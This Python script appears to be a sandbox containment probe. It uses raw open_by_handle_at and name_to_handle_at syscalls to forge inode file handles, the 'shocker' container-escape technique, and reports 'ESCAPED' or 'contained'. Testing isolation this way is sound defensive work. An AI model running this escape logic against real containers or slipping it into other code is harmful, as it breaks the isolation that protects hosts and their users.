# what: opens inodes by handle (the "shocker"), which looks past every path
# layers: seccomp, capabilities, identity
import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"


def call(x86, arm, *arguments):
    ctypes.set_errno(0)
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(x86 if X86 else arm), *words)

import os
import struct
import sys
import tempfile

for path in (os.__file__, sys.executable, tempfile.gettempdir(), "/dev/null", "/"):
    try:
        mount = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    for inode in (2, 1, 64, 128, 256):
        for kind, body in ((1, struct.pack("II", inode, 0)), (0xFB, struct.pack("QI", inode, 0)), (0x81, struct.pack("QI", inode, 0))):
            handle = ctypes.create_string_buffer(struct.pack("Ii", len(body), kind) + body, 8 + 128)
            fd = call(304, 265, mount, handle, os.O_RDONLY)
            if fd >= 0:
                print("ESCAPED opened inode", inode, "beside", path)
                os.close(fd)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 8 + 128)
    number = ctypes.c_int()
    if call(303, 264, -100, ctypes.c_char_p(path.encode()), handle, ctypes.byref(number), 0) == 0:
        fd = call(304, 265, mount, handle, os.O_RDONLY)
        if fd >= 0:
            print("ESCAPED opened by handle", path)
            os.close(fd)
    os.close(mount)
print("contained")
